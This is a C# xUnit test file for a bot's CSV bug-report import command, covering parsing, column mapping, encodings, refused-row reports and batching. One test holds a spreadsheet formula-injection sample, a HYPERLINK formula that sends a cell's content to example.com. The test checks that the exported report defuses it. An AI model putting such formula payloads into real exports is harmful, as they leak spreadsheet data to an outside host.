using System.Runtime.Versioning;
using FluentAssertions;
using Improvement.Bot.Errors.Impact;
using Improvement.Bot.Errors.Import;
using Improvement.Bot.Framework.Cards;
using Improvement.Bot.Tests.Operations;
using Improvement.Bot.Tests.Similarity;
using Improvement.Bot.Tests.Texts;
using Microsoft.Extensions.Time.Testing;
using Xunit;

namespace Improvement.Bot.Tests.Errors.Import;

public sealed class ImportCommandTests : IDisposable
{
    private static readonly DateTimeOffset Now = new(2026, 11, 1, 12, 0, 0, TimeSpan.Zero);
    private readonly KeptImports _kept = new();
    private readonly StringWriter _output = new();
    private readonly StringWriter _problems = new();

    [Fact]
    public async Task A_file_is_imported_by_the_names_of_its_columns()
    {
        using var file = new CsvFile("Summary,Issue id,Created,Description\nExport failed,7,2026-10-01 14:30,\"It failed.\nTwice.\"\n");
        (await Run(file)).Should().Be(ImportCommand.Done);
        _kept.Errors.Values.Should().ContainSingle().Which.Should().Be(
            new ImportedError(
                "old reports", "7", "Export failed", "It failed.\nTwice.", new(2026, 10, 1, 14, 30, 0, TimeSpan.Zero), null, null, null));
        _output.ToString().Should().Contain("1 row read: 1 new, 0 already there.");
    }

    [Fact]
    public async Task Importing_again_doubles_nothing()
    {
        using var file = new CsvFile("title,story\nOne,First\nTwo,Second\n");
        await Run(file);
        (await Run(file)).Should().Be(ImportCommand.Done);
        _kept.Errors.Should().HaveCount(2);
        _output.ToString().Should().Contain("0 new, 2 already there");
    }

    [Fact]
    public async Task Columns_can_be_named_and_quoted_and_left_out()
    {
        using var file = new CsvFile("Nr.,Was geschah?,Date\n1,Der Export schlug fehl,whenever\n");
        (await Run(file, "--map", "id=\"Nr.\",story=was geschah,created=")).Should().Be(ImportCommand.Done);
        _kept.Errors.Values.Single()
            .Should()
            .Match<ImportedError>(error => error.Title == "Der Export schlug fehl" && error.Created == null);
    }

    [Fact]
    public async Task Refused_rows_are_listed_with_line_and_reason_and_the_corrected_list_can_be_imported()
    {
        using var file = new CsvFile("id,text,created\n1,fine,2026-10-01\n2,,2026-10-01\n3,\"two\nlines\",2026-10-32\n,no "
            + "id,\n1,again,\n4,too,many,columns\n");
        (await Run(file)).Should().Be(ImportCommand.SomeRefused);
        _output.ToString().Should().Contain("6 rows read: 1 new, 0 already there, 5 refused.").And.Contain(file.ReportPath);
        var report = File.ReadAllText(file.ReportPath);
        report.Should()
            .Contain("3,refused,The row has no text.,2,,2026-10-01").And.Contain("4,refused,“2026-10-32” is not a date")
            .And.Contain("without it the next import would double it")
            .And.Contain("The id 1 stands in line 2 already, with other cells.").And.Contain("4 columns instead of 3");

        File.WriteAllText(file.ReportPath, report.Replace("2026-10-32", "2026-10-31"));
        await new ImportCommand(_output, _problems, true, TimeProvider.System)
            .Define(_ => _kept.Store)
            .Run(["import", "errors", file.ReportPath], _output, _problems);
        _kept.Errors.Keys.Should().Contain(("old reports", "3"));
    }

    [Fact]
    public async Task A_title_that_is_too_long_stays_whole_in_the_story()
    {
        var title = string.Concat(Enumerable.Repeat("word ", 30)).Trim();
        using var file = new CsvFile($"title,story\n{title},What followed\n");
        await Run(file);
        var error = _kept.Errors.Values.Single();
        error.Title.Length.Should().BeLessThanOrEqualTo(80);
        error.Story.Should().Be(title + "\n\nWhat followed");
    }

    [Fact]
    public async Task A_story_that_is_too_long_is_shortened_and_told()
    {
        using var file = new CsvFile($"title,story\nLong,{new string('x', 25_000)}\n");
        (await Run(file)).Should().Be(ImportCommand.Done);
        _kept.Errors.Values.Single().Story.Should().HaveLength(20_000).And.EndWith(
            "[Shortened at import; the original has 25,000 characters.]");
        File.Exists(file.ReportPath).Should().BeFalse("none was refused");
        File.ReadAllText(file.ReportPath.Replace("refused", "shortened")).Should().Contain("shortened");
        _output.ToString().Should().Contain("1 text was longer").And.NotContain("refused");
    }

    [Theory]
    [InlineData("title;story\nOne;First\n")]
    [InlineData("title\tstory\nOne\tFirst\n")]
    [InlineData("\uFEFF\"title\", \"story\"\r\n\"One\", \"First\"\r\n")]
    [InlineData("sep=;\ntitle;story\nOne;First\n")]
    [InlineData("TITLE , Story \nOne,First")]
    public async Task Files_are_read_as_the_world_writes_them(string text)
    {
        using var file = new CsvFile(text);
        await Run(file);
        _kept.Errors.Values.Single().Should().Match<ImportedError>(error => error.Title == "One" && error.Story == "First");
    }

    [Fact]
    public async Task A_file_in_an_older_encoding_keeps_its_umlauts()
    {
        using var file = new CsvFile("title\nGröße überschritten – 5 €\n",
            System.Text.CodePagesEncodingProvider.Instance.GetEncoding(1252));
        await Run(file);
        _kept.Errors.Values.Single().Title.Should().Be("Größe überschritten – 5 €");
    }

    [Fact]
    public async Task A_quotation_mark_that_is_never_closed_is_refused_with_its_line()
    {
        using var file = new CsvFile("id,title\n1,One\n2,\"Two\n3,Three\n");
        (await Run(file)).Should().Be(ImportCommand.SomeRefused);
        File.ReadAllText(file.ReportPath).Should().Contain("3,refused,A quotation mark");
    }

    [UnixFact, UnsupportedOSPlatform("windows")]
    public async Task A_folder_that_is_read_only_gets_no_report_it_goes_into_the_current_one()
    {
        using var file = new CsvFile("id,title,story\n1,,\n2,,\n");
        var folder = Path.GetDirectoryName(file.Path)!;
        var here = Path.Combine(Environment.CurrentDirectory, Path.GetFileName(file.ReportPath));
        File.SetUnixFileMode(folder, UnixFileMode.UserRead | UnixFileMode.UserExecute);
        try
        {
            (await Run(file)).Should().Be(ImportCommand.SomeRefused);
            File.Exists(file.ReportPath).Should().BeFalse();
            File.Exists(here).Should().BeTrue();
        }
        finally
        {
            File.SetUnixFileMode(folder, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
            File.Delete(here);
        }
    }

    [Fact]
    public async Task A_complaint_names_some_columns_and_counts_the_rest()
    {
        using var file = new CsvFile(string.Join(',', Enumerable.Range(1, 40).Select(at => $"c{at}")) + "\n");
        (await Run(file)).Should().Be(ImportCommand.Impossible);
        _problems.ToString().Should().Contain("“c25” and 15 more").And.NotContain("c26");
    }

    [Fact]
    public async Task Severity_comes_from_a_column_only_when_it_is_named()
    {
        using var file = new CsvFile("title,severity\nOne,4\nTwo,minor\nThree,urgent\n");
        await Run(file);
        _kept.Errors.Values.Should().OnlyContain(error => error.Severity == null);
        _kept.Errors.Clear();
        (await Run(file, "--map=severity=severity")).Should().Be(ImportCommand.SomeRefused);
        _kept.Errors.Values.Select(error => error.Severity).Should().Equal(Severity.MajorHarm, Severity.MinorHarm);
    }

    [Fact]
    public async Task Stopping_keeps_whole_batches_and_the_next_run_goes_on()
    {
        using var file = new CsvFile("id,title\n" + string.Concat(Enumerable.Range(1, 1_000).Select(id => $"{id},Error {id}\n")));
        using var stop = new CancellationTokenSource();
        var command = new ImportCommand(_output, _problems, true, TimeProvider.System);
        var code = await command.Define(_ => async (batch, _) =>
        {
            if (_kept.Batches.Count == 2) stop.Cancel();
            return await _kept.Store(batch, default);
        }).Run(["import", "errors", file.Path, "--created", "today"], _output, _problems, stop.Token);
        code.Should().Be(ImportCommand.Stopped);
        _kept.Errors.Should().HaveCount(300);
        _output.ToString().Should().Contain("the same command goes on");

        (await Run(file)).Should().Be(ImportCommand.Done);
        _kept.Errors.Should().HaveCount(1_000);
        _output.ToString().Should().Contain("1,000 rows read: 700 new, 300 already there");
    }

    [Theory]
    [InlineData("import")]
    [InlineData("import errors")]
    [InlineData("import errors --map x=y")]
    [InlineData("import patterns file.csv")]
    [InlineData("import errors nowhere.csv")]
    [InlineData("import errors nowhere.csv --dates ymd")]
    [InlineData("import errors nowhere.csv --zone Mars/Base")]
    [InlineData("import errors nowhere.csv --map")]
    public async Task A_wrong_command_line_is_answered_with_the_right_one(string line)
    {
        var code = await new ImportCommand(_output, _problems, true, TimeProvider.System)
            .Define(_ => _kept.Store)
            .Run(line.Split(' '), _output, _problems);
        code.Should().Be(ImportCommand.Impossible);
        _problems.ToString().Should().ContainAny("import errors --help", "There is no file");
    }

    [Theory]
    [InlineData("a,b\n1,2\n", null, "“a”, “b”")]
    [InlineData("title\nOne\n", "titel=title", "id, title, story")]
    [InlineData("title\nOne\n", "title=Titel", "There is no column “Titel”")]
    [InlineData("", null, "empty")]
    [InlineData("title,created\nOne,03/04/2026\n", null, "--dates dmy or --dates mdy")]
    [InlineData("PK\u0003\u0004workbook", null, "a workbook of a spreadsheet program")]
    [InlineData("title,created\nOne,13/04/2026\nTwo,04/13/2026\n", null, "line 2")]
    [InlineData("title,created\nOne,soon\n", null, "“soon” in line 2")]
    public async Task What_stands_in_the_way_is_said_before_anything_is_kept(string text, string? map, string hint)
    {
        using var file = new CsvFile(text);
        (await (map is null ? Run(file) : Run(file, "--map", map))).Should().Be(ImportCommand.Impossible);
        _problems.ToString().Should().Contain(hint);
        _kept.Errors.Should().BeEmpty();
    }

    [Theory]
    [InlineData("Bug ID,Summary,Changed\n1001,Crash,2024-03-05 09:12\n", "Days stand in “Changed”: please say --map created=\"Changed\"")]
    [InlineData("id,title\n1,Crash\n", "--map created=COLUMN, or say --created today")]
    public async Task A_file_without_the_day_of_reporting_is_asked_about(string text, string hint)
    {
        using var file = new CsvFile(text);
        (await Ask(file)).Should().Be(ImportCommand.Impossible);
        _problems.ToString().Should().Contain(hint);
        _kept.Errors.Should().BeEmpty();

        (await Ask(file, "--created", "2026-03-15")).Should().Be(ImportCommand.Done);
        _kept.Errors.Values.Single().Created.Should().Be(new DateTimeOffset(2026, 3, 15, 0, 0, 0, TimeSpan.Zero));
        _output.ToString().Should().Contain("Days (created): 2026-03-15 for all rows.");
    }

    [Fact]
    public async Task What_is_read_is_told_before_with_encoding_columns_and_the_range_of_days()
    {
        using var file = new CsvFile("Bug ID;Summary;Opened\n1;Größe;03/15/2026\n2;Two;04/01/2026\n3;Three;\n");
        (await Ask(file)).Should().Be(ImportCommand.Done);
        _output.ToString()
            .Should()
            .StartWith("Old Reports.csv: UTF-8, separated by semicolons.").And.Contain("id = Bug ID, title = Summary, created = Opened")
            .And.Contain("Days (created): 2026-03-15 to 2026-04-01. “03/15/2026” is read as 15 March 2026 00:00 UTC.")
            .And.Contain("1 row has no day of reporting");
    }

    [Fact]
    public async Task Rows_are_the_same_where_every_cell_is()
    {
        using var file = new CsvFile("title,created,state\nCrash,2026-03-15,NEW\nCrash,2026-03-15,OPEN\nCrash,2026-03-15,NEW\n");
        (await Run(file)).Should().Be(ImportCommand.SomeRefused);
        _kept.Errors.Should().HaveCount(2);
        File.ReadAllText(file.ReportPath).Should().Contain("The same row stands in line 2 already.");
    }

    [Fact]
    public async Task A_list_of_refused_rows_holds_no_formula_and_is_read_back_as_it_was()
    {
        using var file = new CsvFile("id,title,created\n1,\"=HYPERLINK(\"\"http://example.com/?x=\"\"&A1)\",soon\n2,-5 "
            + "degrees,soon\n3,@here,2026-03-32\n4,fine,2026-03-15\n5,fine,2026-03-16\n6,fine,2026-03-17\n7,fine,2026-03-18\n");
        (await Run(file)).Should().Be(ImportCommand.SomeRefused);
        var report = File.ReadAllText(file.ReportPath);
        report.Should().Contain("\"'=HYPERLINK(").And.Contain(",'-5 degrees,").And.Contain(",'@here,");

        File.WriteAllText(file.ReportPath, report.Replace("soon", "2026-03-15").Replace("2026-03-32", "2026-03-31"));
        await new ImportCommand(_output, _problems, true, new FakeTimeProvider(Now))
            .Define(_ => _kept.Store)
            .Run(["import", "errors", file.ReportPath], _output, _problems);
        _kept.Errors[("old reports", "1")].Title.Should().StartWith("=HYPERLINK");
        _kept.Errors[("old reports", "2")].Title.Should().Be("-5 degrees");
    }

    [Fact]
    public async Task Progress_is_drawn_on_one_line_for_people_and_in_tenths_for_files()
    {
        using var file = new CsvFile("id,title\n" + string.Concat(Enumerable.Range(1, 500).Select(id => $"{id},Error {id}\n")));
        await Run(file);
        _output.ToString().Split('\n').Count(line => line.Contains(" %")).Should().Be(10);
        _output.ToString().Should().NotContain("\r[");

        using var screen = new StringWriter();
        await new ImportCommand(screen, _problems, redirected: false, TimeProvider.System)
            .Define(_ => _kept.Store)
            .Run(["import", "errors", file.Path, "--created", "today"], _output, _problems);
        screen.ToString().Should().Contain("\r[" + new string('#', 30) + "] 100 %, 500 rows");
    }

    [Fact]
    public async Task All_that_is_said_comes_from_the_resource_file()
    {
        using var _ = PseudoLanguage.Spoken();
        using var file = new CsvFile("1,2\n3,4\n");
        await Run(file);
        PseudoLanguage.PlainWords(_problems.ToString()).Should().BeEmpty();
    }

    [SharedDataFact(HadoopReports.File)]
    public async Task The_real_bug_reports_go_in_all_of_them()
    {
        var (code, errors) = await RunShared(HadoopReports.File);
        code.Should().Be(ImportCommand.Done, _problems.ToString());
        errors.Should().HaveCount(2_503);
        errors.Should().OnlyContain(error =>
            error.Created != null
                && error.Title.Length > 0
                && error.Title.Length <= 80
                && error.Story.Length > 0
                && error.Story.Length <= 20_000);
        errors.Single(error => error.ExternalId == "13404344").Created.Should().Be(
            new DateTimeOffset(2021, 9, 30, 17, 20, 0, TimeSpan.Zero));
    }

    [SharedDataFact("safenet/safenet_2005.csv")]
    public async Task Real_safety_narratives_go_in_with_their_dates_and_titles()
    {
        var (code, errors) = await RunShared("safenet/safenet_2005.csv");
        code.Should().Be(ImportCommand.Done, "its two blank rows are no rows");
        errors.Should().HaveCount(184);
        var ride = errors.Single(error => error.ExternalId == "24775");
        ride.Title.Should().StartWith("On Monday the 12th of December, 2005 I was driving");
        ride.Occurred.Should().Be(new DateTimeOffset(2005, 12, 12, 14, 0, 0, TimeSpan.Zero));
        ride.Created.Should().Be(new DateTimeOffset(2005, 12, 21, 0, 0, 0, TimeSpan.Zero));
        ride.ImmediateAction.Should().NotBeNull();
    }

    public void Dispose()
    {
        _output.Dispose();
        _problems.Dispose();
    }

    /// <summary>Imports; a file without a day of reporting as reported today.</summary>
    private Task<int> Run(CsvFile file, params string[] options) =>
        Ask(
            file,
            File.ReadLines(file.Path).FirstOrDefault("created").Contains("created", StringComparison.OrdinalIgnoreCase)
                || Array.Exists(options, option => option.Contains("created", StringComparison.Ordinal))
                ? options
                : [.. options, "--created", "today"]);

    private Task<int> Ask(CsvFile file, params string[] options) =>
        new ImportCommand(_output, _problems, redirected: true, new FakeTimeProvider(Now))
            .Define(_ => _kept.Store)
            .Run(["import", "errors", file.Path, .. options], _output, _problems);

    private async Task<(int Code, IReadOnlyCollection<ImportedError> Errors)> RunShared(string name)
    {
        using var copy = new CsvFile("");
        File.Copy(SharedData.File(name), copy.Path, overwrite: true);
        return (await Run(copy), _kept.Errors.Values);
    }

    private sealed class UnixFactAttribute : FactAttribute
    {
        public UnixFactAttribute()
        {
            if (OperatingSystem.IsWindows()) Skip = "folders on Windows have no read-only mode";
        }
    }
}
